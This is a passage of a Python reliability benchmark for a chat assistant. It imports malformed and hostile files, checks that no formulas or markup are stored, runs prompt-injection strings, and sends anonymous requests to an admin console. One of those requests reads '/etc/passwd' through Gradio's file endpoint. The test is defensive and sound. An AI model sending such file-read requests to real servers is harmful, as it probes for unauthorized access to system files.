        BadFile("gen_no_agent.jsonl", _jsonl({"messages": [{"role": "user", "content": "hello?"}]}).encode(), False,
                "conversations without an agent reply", r"no assistant message"),
        BadFile("gen_wrong_shape.json", b'[{"foo": 1}, {"bar": 2}]', False, "JSON of something else",
                r"recognise|Accepted|format"),
        BadFile("gen_deep.json", b"[" * 100_000 + b"]" * 100_000, False, "JSON nested 100,000 deep",
                r"nested|deep|recognise|invalid"),
        BadFile("gen_missing.jsonl", None, False, "a file that does not exist", r"no such file"),
    ]


def _hostile_stored(db: Path, absent: tuple = ()) -> list[str]:
    """What should never be stored: replacement characters, NULs, markup, formulas a spreadsheet would run."""
    from distill.normalize import is_formula

    found = []
    conn = sqlite3.connect(db)
    try:
        for cid, messages, metadata in conn.execute("SELECT id, messages, metadata FROM conversations"):
            values = [m["content"] for m in json.loads(messages)]
            for k, v in json.loads(metadata or "{}").items():
                values += [k] + ([v] if isinstance(v, str) else [json.dumps(v, ensure_ascii=False)])
            for v in values:
                if "\ufffd" in v or "\x00" in v:
                    found.append(f"#{cid}: broken characters")
                if MARKUP.search(v):
                    found.append(f"#{cid}: markup {MARKUP.search(v).group(0)!r}")
                if is_formula(v):
                    found.append(f"#{cid}: formula {v[:30]!r}")
                found += [f"#{cid}: {word!r} stored" for word in absent if word in v]
    finally:
        conn.close()
    return found


def _place(f: BadFile, folder: Path) -> Path:
    """Where the probe finds the file: the repo's fixture, or written here (the missing one is not written)."""
    if f.data is None and f.name != "gen_missing.jsonl":
        return FIXTURES / f.name
    folder.mkdir(exist_ok=True)
    if f.data is not None:
        (folder / f.name).write_bytes(f.data)
    return folder / f.name


def _store_holding_something(home: Path) -> Path:
    from assistant.store import Store
    from distill.importer import import_file

    store = Store(db_path(home))
    import_file(store, FIXTURES / "sharegpt.json")
    store.close()
    return db_path(home)


def _judge_importable(f: BadFile, db: Path, out, output: str, added: int) -> tuple[bool, str, int]:
    """(imported as it should be, what happened, hostile values stored)."""
    hostile = _hostile_stored(db, f.absent)
    conn = sqlite3.connect(db)
    text_ok = not f.text or any(f.text in m for (m,) in conn.execute("SELECT messages FROM conversations"))
    conn.close()
    ok = out.returncode == 0 and added > 0 and not hostile and text_ok
    how = [m.group(0) for m in re.finditer(r"encoding: [^(;]+|html_sanitised \d+|formula_defused \d+|rejected \d+", output)]
    detail = (f"imported {added}" + (f" ({', '.join(how)})" if how else "") +
              (f"; STORED {hostile[:3]}" if hostile else "") + ("" if text_ok else "; text garbled"))
    return ok, detail, len(hostile)


def _judge_refused(f: BadFile, out, output: str, crashed: bool, unchanged: bool) -> tuple[bool, bool, str]:
    """(refused as it should be, the reason given is the real one, what happened)."""
    names = f.name in output and re.search(re.escape(f.name) + r":? .{12,}", output)
    reason_ok = not f.reason or re.search(f.reason, output.replace(f.name, ""), re.I)
    ok = out.returncode != 0 and unchanged and bool(names)
    missing = [what for what, met in (("exit non-zero", out.returncode != 0), ("no crash", not crashed),
                                      ("nothing stored", unchanged), ("names the file", bool(names)),
                                      ("the real reason", bool(reason_ok))) if not met]
    said = (out.stderr.strip().splitlines() or ["?"])[-1] if crashed else output.replace("error: ", "", 1)[:150]
    detail = f"exit {out.returncode}: " + ("CRASHED " if crashed else "") + said + (
        f" [MISSING: {', '.join(missing)}]" if missing else "")
    return ok, bool(reason_ok), detail


def probe_badfiles() -> Row:
    corpus = bad_file_corpus()
    row = Row(f"bad files ({len(corpus)})")
    importable, unexpected, misreported = [], [], []
    with tempfile.TemporaryDirectory(prefix="bench-reliability-") as tmp:
        tmp = Path(tmp)
        for i, f in enumerate(corpus):
            path = _place(f, tmp / "files")
            home = tmp / f"state-{i}"
            db = _store_holding_something(home)
            before, counts_before = snapshot(db), table_counts(db)
            out, wait = cli(["import", str(path)], home)
            output = " ".join((out.stdout + "\n" + out.stderr).split())
            crashed = "Traceback (most recent call last)" in out.stderr or out.returncode < 0
            row.requests += 1
            row.max_wait = max(row.max_wait or 0.0, wait)
            row.leaks += len(scratch_files(db))
            if f.importable:
                importable.append(f.name)
                added = table_counts(db)["conversations"] - counts_before["conversations"]
                ok, detail, hostile = _judge_importable(f, db, out, output, added)
                ok, reason_ok = ok and not crashed, True
                row.leaks += hostile
            else:
                unchanged = snapshot(db) == before and table_counts(db) == counts_before
                ok, reason_ok, detail = _judge_refused(f, out, output, crashed, unchanged)
                ok = ok and not crashed
                row.lost += not unchanged
            unexpected += [] if ok else [f.name]
            misreported += [f.name] if ok and not reason_ok else []
            row.errors += not ok or not reason_ok
            say(f"[badfiles] {'OK  ' if ok and reason_ok else 'FAIL'} {f.name:<28} {f.why}: {detail}")
    row.notes = (f"{len(corpus) - len(importable)} refused, {len(importable)} importable after decoding or cleaning "
                 "(stored clean)" + (f"; FAILED: {', '.join(unexpected)}" if unexpected else "")
                 + (f"; reason misreported: {', '.join(misreported)}" if misreported else ""))
    row.targets.append((not unexpected and not row.leaks,
                        f"every bad file: exit non-zero, a message naming the file and a reason, nothing stored "
                        f"({len(corpus) - len(importable)} files; the {len(importable)} importable ones stored clean)"
                        + (f" (failed: {', '.join(unexpected)})" if unexpected else "")))
    row.targets.append((not misreported, "(beyond #11's targets) the reason given is the real one"
                        + (f" (not for: {', '.join(misreported)}: empty, called an unrecognised format or missing columns)"
                           if misreported else "")))
    return row


# ---- 5. injection --------------------------------------------------------------------------------------

def probe_injection() -> Row:
    """eval.bench_injection's strings through its prompt builders, as a row of the table."""
    from eval import bench_injection as bi

    results = bi.run()
    n = len(bi.INJECTIONS)
    row = Row(f"injection ({n} strings x {len(results)} builders)", requests=n * len(results), lost=None)
    failed = []
    for r in results:
        row.errors += len(r.failed)
        row.leaks += r.structure_held  # the structure held, but the text landed outside its data block
        failed += [f"{r.builder}: {b!r}" for b in r.failed]
        say(f"[injection] {r.builder:<28} {n - len(r.failed)}/{n} inert"
            + (f"; NOT inert: {list(r.failed)}" if r.failed else ""))
    row.notes = "every string inert in every builder" if not failed else f"not inert: {'; '.join(failed[:4])}"
    row.targets.append((not failed, f"injection: every string inert in every prompt builder ({row.requests - row.errors}"
                                    f"/{row.requests})"))
    return row


# ---- 6. anonymous console access ------------------------------------------------------------------------

CONSOLE_USER = ("lead", "correct-horse-battery")


def _functions(base: str, auth: tuple[str, str] | None = None) -> dict[int, str]:
    """{index: api name} of an app's functions, from its config as its (signed-in) users' browsers get it."""
    import httpx

    with httpx.Client(timeout=15) as http:
        if auth:
            http.post(base + "login", data={"username": auth[0], "password": auth[1]}).raise_for_status()
        config = http.get(base + "config")
        config.raise_for_status()
    return {d["id"]: d.get("api_name") for d in config.json()["dependencies"]}


def _anonymous_calls(named: list[str], indexes: list[int], db: Path) -> list[tuple[str, str, dict]]:
    """(method, path, httpx arguments): every way in to a console function, and its data, without signing in."""
    calls = [("POST", f"gradio_api/{how}/{name}", {"json": {"data": []}}) for name in named for how in ("call", "run", "api")]
    calls += [("POST", "gradio_api/queue/join", {"json": {"data": [], "fn_index": index, "session_hash": f"anon{index}",
                                                         "event_data": None, "trigger_id": None}}) for index in indexes]
    return calls + [("GET", "config", {}), ("GET", "gradio_api/info", {}), ("GET", "gradio_api/queue/status", {}),
                    ("GET", f"gradio_api/file={db}", {}), ("GET", "gradio_api/file=/etc/passwd", {}),
                    ("POST", "gradio_api/upload", {"files": {"files": ("x.jsonl", b'{"messages": []}')}})]


def _not_refused(row: Row, base: str, calls: list[tuple[str, str, dict]]) -> list[str]:
    import httpx

    not_refused = []
    for method, path, kwargs in calls:
        t0 = time.perf_counter()
        try:
            status = httpx.request(method, base + path, timeout=15, **kwargs).status_code
        except httpx.HTTPError as exc:
            status = type(exc).__name__
        row.max_wait = max(row.max_wait or 0.0, time.perf_counter() - t0)
        row.requests += 1
        if status not in (401, 403):
            row.errors += 1
            not_refused.append(f"{method} {path} -> {status}")
    return not_refused


def _signed_in_control(base: str) -> tuple[bool, str]:
    """Signed in, a console function answers: the refusals refused something real (the console's functions
    are undocumented, so calling one is the check, not listing them)."""
    from gradio_client import Client

    try:
        Client(base, auth=CONSOLE_USER, verbose=False).predict(api_name="/job_status")
        return True, "a signed-in call to /job_status answered"
    except Exception as exc:
        return False, f"signed in, /job_status failed: {exc}"


def _through_chat(row: Row, chat_url: str, named: list[str]) -> tuple[list[str], list[str], list[str], set]:
    """The public chat: (its API's endpoints, console functions in it, console functions callable through it,
    the statuses calls to them got)."""
    import httpx
    from gradio_client import Client

    chat_api = sorted(Client(chat_url, verbose=False).view_api(print_info=False, return_format="dict")["named_endpoints"])
    chat_names = {str(n) for n in _functions(chat_url).values()}
    in_chat = sorted(({n.lstrip("/") for n in chat_api} | chat_names) & set(named))
    through, statuses = [], set()
    for name in named:
        status = httpx.post(f"{chat_url}gradio_api/call/{name}", json={"data": []}, timeout=15).status_code
        statuses.add(status)
        row.requests += 1
        if status < 400:
            through.append(f"{name} -> {status}")
    row.errors += len(in_chat) + len(through)
    return chat_api, in_chat, through, statuses


def probe_console() -> Row:
    import httpx

    row = Row("console, anonymous")
    with tempfile.TemporaryDirectory(prefix="bench-reliability-") as tmp:
        with served(Path(tmp) / "state", ASSISTANT_CONSOLE_USERS=":".join(CONSOLE_USER)) as app:
            base, db = app.console_url, app.settings.db_path
            console_fns = _functions(base, auth=CONSOLE_USER)
            named = sorted({n for n in console_fns.values() if n and not str(n).startswith("false")})
            calls = _anonymous_calls(named, list(console_fns), db)
            before = table_counts(db)
            not_refused = _not_refused(row, base, calls)
            # the sign-in page itself is public: it must not carry the console's functions or data
            page_leaks = [n for n in named if n in httpx.get(base, timeout=15).text]
            row.leaks += len(page_leaks)
            row.lost = sum(abs(table_counts(db)[t] - before[t]) for t in before)
            control, signed_in = _signed_in_control(base)
            chat_api, in_chat, through_chat, chat_statuses = _through_chat(row, app.chat_url, named)
    refused = f"{len(calls) - len(not_refused)}/{len(calls)}"
    say(f"[console] {len(calls)} anonymous calls to the console ({len(named)} named functions, {len(console_fns)} "
        f"by index, config, info, files, upload): {len(calls) - len(not_refused)} refused"
        + (f"; NOT refused: {not_refused}" if not_refused else ""))
    say(f"[console] {signed_in}; the public chat lists {chat_api}: console functions in it {in_chat or 'none'}, "
        f"callable through it {through_chat or 'none'} (HTTP {sorted(chat_statuses)}); the anonymous sign-in page "
        f"names {page_leaks or 'no console function'}")
    row.notes = (f"{refused} anonymous console calls refused; chat API: {', '.join(chat_api)}"
                 + (f"; the sign-in page describes {len(page_leaks)} console functions" if page_leaks else "")
                 + ("" if control else f"; CONTROL FAILED: {signed_in}"))
    row.targets.append((not not_refused and control and not row.lost,
                        f"anonymous access to any console function: refused ({refused})"))
    row.targets.append((not in_chat and not through_chat,
                        "the public chat's API lists no console function and calls to one fail"))
    row.targets.append((not page_leaks, "(beyond #11's targets) the console's anonymous sign-in page describes none of "
                                        f"its functions (it describes {len(page_leaks)}: window.gradio_api_info)"))
    return row


# ---- the run -------------------------------------------------------------------------------------------

PROBES = ("load", "teacher", "kill", "badfiles", "injection", "console")


def _fmt(value, unit: str = "") -> str:
    if value is None:
        return "-"
    if isinstance(value, float):
        return f"{value:.2f}{unit}"
    return f"{value:,}{unit}"


def print_table(rows: list[Row]) -> None:
    header = ("probe", "requests", "errors", "lost rows", "max wait", "leaks", "notes")
    cells = [header] + [(r.probe, _fmt(r.requests), _fmt(r.errors), _fmt(r.lost), _fmt(r.max_wait, " s"),
                         _fmt(r.leaks), r.notes) for r in rows]
    widths = [max(len(c[i]) for c in cells) for i in range(len(header) - 1)]
    say()
    for n, c in enumerate(cells):
        say("  ".join(c[i].ljust(widths[i]) if i == 0 else c[i].rjust(widths[i]) for i in range(len(widths)))
            + "  " + c[-1])
        if n == 0:
            say("  ".join("-" * w for w in widths) + "  " + "-" * 5)
    say()
    for r in rows:
        for met, what in r.targets:
            say(f"{'PASS' if met else 'FAIL'}  {what}")


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", default=",".join(PROBES), help=f"comma-separated probes: {', '.join(PROBES)}")
    parser.add_argument("--quick", action="store_true", help="small sizes for a fast check: " +
                        ", ".join(f"{k} {v:,}" for k, v in QUICK.items()))
    parser.add_argument("--clients", type=int, help=f"load: concurrent chat clients (default {DEFAULTS['clients']})")
    parser.add_argument("--seconds", type=float, help=f"load: seconds of chatting, at least (default {DEFAULTS['seconds']:g})")
    parser.add_argument("--conversations", type=int,
                        help=f"load: conversations imported alongside (default {DEFAULTS['conversations']:,})")
    parser.add_argument("--think", type=float, default=0.05, help="load: seconds each client waits between messages")
    parser.add_argument("--per-session", type=int, default=8, help="load: messages per chat session, then a new one")
    parser.add_argument("--kill-conversations", type=int,
                        help=f"kill: conversations in the import that is killed (default {DEFAULTS['kill_conversations']:,})")
    parser.add_argument("--fault-repeats", type=int, default=1, help="teacher: requests per fault")
    parser.add_argument("--reply-target", type=float, default=REPLY_TARGET_S, help="teacher: seconds a reply may take")
    parser.add_argument("--child", nargs="+", help=argparse.SUPPRESS)
    return parser


def _run_probe(name: str, run) -> Row:
    """One probe's row; a probe that breaks does not hide the others' results."""
    t0 = time.perf_counter()
    say(f"== {name}")
    try:
        row = run()
    except Exception as exc:
        traceback.print_exc()
        row = Row(name, errors=1, lost=None, leaks=None, notes=f"PROBE CRASHED: {type(exc).__name__}: {exc}",
                  targets=[(False, f"{name}: the probe itself crashed ({type(exc).__name__}: {exc})")])
    say(f"   ({time.perf_counter() - t0:.0f} s)")
    return row


def main(argv: list[str] | None = None) -> int:
    parser = _parser()
    args = parser.parse_args(argv)
    if args.child:
        if args.child[0] == "clients":
            _child_clients(json.loads(args.child[1]))
        elif args.child[0] == "import":
            _child_import(args.child[1], args.child[2])
        return 0
    for key, value in (QUICK if args.quick else DEFAULTS).items():
        if getattr(args, key) is None:
            setattr(args, key, value)
    only = [p.strip() for p in args.only.split(",") if p.strip()]
    if set(only) - set(PROBES):
        parser.error(f"unknown probe(s) {', '.join(sorted(set(only) - set(PROBES)))}; choose from {', '.join(PROBES)}")
    try:
        os.nice(10)  # a shared machine: the children inherit it
    except OSError:
        pass
    logging.basicConfig(level=logging.ERROR)  # the probes provoke failures on purpose: their warnings are expected
    runs = {
        "load": lambda: probe_load(args.clients, args.seconds, args.conversations, args.think, args.per_session),
        "teacher": lambda: probe_teacher(args.fault_repeats, args.reply_target),
        "kill": lambda: probe_kill(args.kill_conversations),
        "badfiles": probe_badfiles, "injection": probe_injection, "console": probe_console,
    }
    started = time.perf_counter()
    rows = [_run_probe(name, runs[name]) for name in PROBES if name in only]
    print_table(rows)
    met = all(m for r in rows for m, what in r.targets if not what.startswith("(beyond"))
    extra = sum(not m for r in rows for m, what in r.targets if what.startswith("(beyond"))
    say(f"\n{'all of #11' + chr(39) + 's targets met' if met else 'TARGETS MISSED'}"
        + (f"; {extra} finding(s) beyond them" if extra else "") + f" ({time.perf_counter() - started:.0f} s)")
    return 0 if met else 1


if __name__ == "__main__":
    sys.exit(main())
